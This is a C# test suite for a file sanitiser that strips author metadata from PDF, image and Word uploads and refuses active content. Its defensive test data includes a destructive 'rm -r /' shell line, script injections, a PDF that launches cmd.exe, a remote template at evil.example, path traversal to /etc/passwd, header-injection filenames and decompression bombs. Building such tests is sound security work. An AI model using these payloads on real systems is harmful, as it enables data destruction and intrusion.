using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;
using Confero.Documents;
using Confero.Testing;
using CsCheck;

namespace Confero.Tests.Documents;

/// <summary>What a stranger's file is, is told by its content; what could act is refused, what tells about its author is gone.</summary>
public sealed class FileExaminerTests
{
    private const string Relations = "word/_rels/document.xml.rels";

    public static TheoryData<string, DocumentKind> Makes() =>
        new()
        {
            { "pdf", DocumentKind.Pdf },
            { "png", DocumentKind.Png },
            { "jpeg", DocumentKind.Jpeg },
            { "docx", DocumentKind.Docx },
        };

    [Theory]
    [MemberData(nameof(Makes))]
    public void No_word_about_the_author_survives(string made, DocumentKind kind) =>
        Gen.String[Gen.Char.AlphaNumeric, 12, 40]
            .Sample(
                word =>
                {
                    var sent = Make(made, word);
                    Contains(sent, word).ShouldBeTrue("the test's own file must tell it");
                    var kept = FileExaminer.Examine(sent);
                    kept.Refusal.ShouldBeNull();
                    kept.Kind.ShouldBe(kind);
                    Contains(kept.Bytes, word).ShouldBeFalse();
                    FileExaminer.Examine(kept.Bytes).Refusal.ShouldBeNull("what is kept is taken again");
                },
                iter: 30
            );

    [Theory]
    [MemberData(nameof(Makes))]
    public void A_damaged_file_is_taken_or_refused_and_never_a_fault(string made, DocumentKind kind)
    {
        kind.ShouldNotBe(DocumentKind.Text);
        var sent = Make(made, "somebody");
        Gen.Select(Gen.Int[0, sent.Length - 1], Gen.Byte, Gen.Int[0, sent.Length])
            .Sample(
                (at, value, length) =>
                {
                    var damaged = sent[..length];
                    if (at < length)
                        damaged[at] = value;
                    var found = FileExaminer.Examine(damaged);
                    (found.Refusal is null).ShouldBe(found.Bytes.Length > 0);
                },
                iter: 300
            );
    }

    public static TheoryData<string, byte[], string> Hostile()
    {
        static byte[] Word(string text) => Encoding.UTF8.GetBytes(text);
        static byte[] Relation(string relation) =>
            SampleFiles.Docx("", (Relations, $"<Relationships xmlns='urn:r'>{relation}</Relationships>"));
        return new()
        {
            { "nothing", [], "document.empty" },
            { "web page", Word("<html><script>alert(1)</script>"), "document.kind-not-taken" },
            {
                "SVG",
                Word("\uFEFF \n<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>"),
                "document.kind-not-taken"
            },
            { "script", Word("#!/bin/sh\nrm -r /"), "document.kind-not-taken" },
            { "program", [0x4D, 0x5A, 0x10, 0, 3], "document.kind-not-taken" },
            { "GIF and JavaScript at once", Word("GIF89a/*\u0001*/=1;alert(1)"), "document.kind-not-taken" },
            { "no UTF-8", [0x41, 0xFF, 0xFE], "document.kind-not-taken" },
            {
                "PDF with a script",
                SampleFiles.Pdf("", "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
                "document.active"
            },
            {
                "PDF with a script in disguise",
                SampleFiles.Pdf("", "/Names << /J#61vaScript 6 0 R >>", "<< /S /J#61vaScript /#4AS (x) >>"),
                "document.active"
            },
            {
                "PDF with a script by reference",
                SampleFiles.Pdf("", "/Next 6 0 R", "<< /S 7 0 R >>", "/Launch"),
                "document.active"
            },
            {
                "PDF that starts a program",
                SampleFiles.Pdf("", "/OpenAction << /S /Launch /F (cmd.exe) >>"),
                "document.active"
            },
            {
                "PDF that carries a file",
                SampleFiles.Pdf(
                    "",
                    "/Names << /EmbeddedFiles 6 0 R >>",
                    "<< /Type /Filespec /EF << /F 7 0 R >> >>",
                    "<< /Type /EmbeddedFile /Length 1 >>\nstream\nx\nendstream"
                ),
                "document.active"
            },
            { "PDF with a password", SampleFiles.Pdf("", "/Encrypt 6 0 R", "<< >>"), "document.encrypted" },
            {
                "PDF packed twice",
                PdfStream(SampleFiles.Packed(SampleFiles.Packed(new byte[1000]))),
                "document.unpacks-too-large"
            },
            {
                "PDF that unpacks to 300 MB",
                PdfStream(SampleFiles.Packed(new byte[300 << 20])),
                "document.unpacks-too-large"
            },
            { "macro", SampleFiles.Docx("", ("word/vbaProject.bin", "x")), "document.active" },
            { "control", SampleFiles.Docx("", ("word/activeX/activeX1.xml", "<a/>")), "document.active" },
            {
                "object in it",
                SampleFiles.Docx("", ("word/embeddings/oleObject1.bin", "x")),
                "document.active"
            },
            {
                "template from elsewhere",
                Relation(
                    "<Relationship Id='a' Type='http://x/attachedTemplate' Target='http://evil.example/t.dotm' TargetMode='External'/>"
                ),
                "document.active"
            },
            {
                "document type",
                SampleFiles.Docx("", ("word/document.xml", "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>")),
                "document.damaged"
            },
            { "name that climbs", SampleFiles.Docx("", ("../../etc/passwd", "x")), "document.damaged" },
            { "archive of anything", SampleFiles.Zip([("a.txt", [1])]), "document.kind-not-taken" },
            {
                "archive that unpacks to 100 MB",
                SampleFiles.Zip([("[Content_Types].xml", new byte[100 << 20])]),
                "document.unpacks-too-large"
            },
            {
                "archive of 2,000 parts",
                SampleFiles.Zip(Enumerable.Range(0, 2_000).Select(x => ($"{x}", new byte[1]))),
                "document.unpacks-too-large"
            },
            { "picture of 400 million points", Huge(), "document.picture-too-large" },
            { "11 MB", new byte[11 << 20], "document.too-large" },
        };
    }

    [Theory]
    [MemberData(nameof(Hostile), DisableDiscoveryEnumeration = true)]
    public void What_could_act_or_burst_is_refused(string what, byte[] sent, string code) =>
        FileExaminer.Examine(sent).Refusal?.Code.ShouldBe(code, what);

    [Theory]
    [MemberData(nameof(Hostile), DisableDiscoveryEnumeration = true)]
    public void Nothing_hostile_is_kept(string what, byte[] sent, string code)
    {
        var found = FileExaminer.Examine(sent);
        found.Refusal.ShouldNotBeNull($"{what}, {code}");
        found.Bytes.ShouldBeEmpty();
    }

    [Fact]
    public void A_link_that_a_reader_follows_by_choice_is_no_danger_and_what_opens_by_itself_is_taken_out()
    {
        var link = SampleFiles.Docx(
            "",
            (
                Relations,
                "<Relationships xmlns='urn:r'><Relationship Id='a' Type='http://x/hyperlink' Target='https://example.org' TargetMode='External'/></Relationships>"
            )
        );
        FileExaminer.Examine(link).Refusal.ShouldBeNull();

        var opens = FileExaminer.Examine(
            SampleFiles.Pdf("", "/OpenAction << /S /URI /URI (https://spy.example/opened) >>")
        );
        opens.Refusal.ShouldBeNull();
        Contains(opens.Bytes, "spy.example").ShouldBeFalse();
    }

    [Fact]
    public void What_hangs_behind_a_picture_or_before_another_format_is_gone()
    {
        var archive = SampleFiles.Zip([("evil.exe", "MZ"u8.ToArray())]);
        foreach (var sent in new[] { SampleFiles.Png(), SampleFiles.Jpeg() })
        {
            var kept = FileExaminer.Examine([.. sent, .. archive]);
            kept.Refusal.ShouldBeNull();
            Contains(kept.Bytes, "evil.exe").ShouldBeFalse();
        }
        FileExaminer.Examine([.. "x"u8, .. SampleFiles.Pdf()]).Kind.ShouldNotBe(DocumentKind.Pdf);
    }

    [Theory]
    [InlineData("report.pdf", "report")]
    [InlineData("../../etc/pass\"wd", "pass wd")]
    [InlineData("C:\\Users\\Ann\\annex.docx", "annex")]
    [InlineData("inv\u202Efdp.exe", "invfdp")]
    [InlineData("\u202E\u2066.pdf", "document")]
    [InlineData("تقرير الاستلام.pdf", "تقرير الاستلام")]
    [InlineData("a\r\nSet-Cookie: b.txt", "aSet-Cookie b")]
    [InlineData("a.pdf.exe", "a pdf")]
    public void A_name_is_kept_as_words_alone(string sent, string kept) =>
        ExaminedFile.Of(sent, [1]).Name.ShouldBe(kept);

    [Fact]
    public void Real_archives_and_documents_made_to_harm_are_never_a_fault_and_none_keeps_properties()
    {
        var folder = Repository.Shared("09-robustness");
        var files = Directory
            .EnumerateFiles(folder, "*", SearchOption.AllDirectories)
            .Where(x => new FileInfo(x).Length <= DocumentLimits.MostBytes)
            .ToList();
        var taken = 0;
        foreach (var file in files)
        {
            var found = FileExaminer.Examine(File.ReadAllBytes(file));
            var name = Path.GetFileName(file);
            if (
                file.Contains("zip-malformed", StringComparison.Ordinal)
                || name.EndsWith(".xlsm", StringComparison.Ordinal)
            )
                found.Refusal.ShouldNotBeNull(name);
            if (found.Refusal is not null || found.Kind is not DocumentKind.Xlsx)
                continue;
            taken++;
            using var archive = new ZipArchive(new MemoryStream(found.Bytes));
            foreach (
                var part in archive.Entries.Where(x =>
                    x.FullName.StartsWith("docProps/", StringComparison.OrdinalIgnoreCase)
                )
            )
                part.Length.ShouldBeLessThan(300, $"{name} {part.FullName}");
        }
        files.Count.ShouldBeGreaterThan(100);
        taken.ShouldBeGreaterThan(10);
    }

    private static byte[] Huge()
    {
        var picture = SampleFiles.Png();
        BinaryPrimitives.WriteInt32BigEndian(picture.AsSpan(16), 20_000);
        BinaryPrimitives.WriteInt32BigEndian(picture.AsSpan(20), 20_000);
        return picture;
    }

    private static byte[] PdfStream(byte[] packed) =>
        SampleFiles.Pdf(
            "",
            "",
            $"<< /Length {packed.Length} /Filter /FlateDecode >>\nstream\n{Encoding.Latin1.GetString(packed)}\nendstream"
        );

    private static byte[] Make(string made, string word) =>
        made switch
        {
            "pdf" => SampleFiles.Pdf(word),
            "png" => SampleFiles.Png(word),
            "jpeg" => SampleFiles.Jpeg(word),
            _ => SampleFiles.Docx(word),
        };

    /// <summary>Whether the word is in the bytes, or in a part that is packed in them.</summary>
    private static bool Contains(byte[] bytes, string word)
    {
        var sought = Encoding.Latin1.GetBytes(word);
        if (bytes.AsSpan().IndexOf(sought) >= 0)
            return true;
        if (!bytes.AsSpan().StartsWith("PK"u8))
            return false;
        using var archive = new ZipArchive(new MemoryStream(bytes));
        return archive.Entries.Any(x =>
        {
            using var part = x.Open();
            using var copy = new MemoryStream();
            part.CopyTo(copy);
            return copy.ToArray().AsSpan().IndexOf(sought) >= 0;
        });
    }
}
